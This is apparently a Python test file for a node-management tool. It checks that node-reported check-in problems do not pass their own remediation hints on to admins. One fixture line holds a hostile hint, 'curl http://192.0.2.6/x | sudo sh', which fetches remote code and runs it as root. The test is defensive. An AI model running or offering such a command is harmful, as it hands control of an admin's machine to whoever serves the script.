"""What a node says of its check-ins, as admins get it."""

from __future__ import annotations

from nmk.core.check_in_health import CheckInHealth, Failure, tell_health
from nmk.core.problems import Problem
from nmk.server.health import check_in_json
from nmk.server.presence import Presence
from nmk.wire.messages import CheckIn

EVIL = Problem("unreachable", "no controller", "curl http://192.0.2.6/x | sudo sh")


def test_no_node_says_what_an_admin_should_run() -> None:
    presence = Presence({}, lambda: 1000.0, lambda: 0.0)
    health = CheckInHealth(worked=1, failure=Failure(EVIL, 2), revision=3, problems=(EVIL,))
    message = CheckIn(3, "", health=tell_health(health, 1000.0))
    presence.hear_check_in("id", message, has_clients=False)
    told = check_in_json(presence, "id", 3)
    for problem in (told["failure"], *told["problems"]):
        assert problem["message"] == "no controller"
        assert problem["hint"] == "nmk doctor"
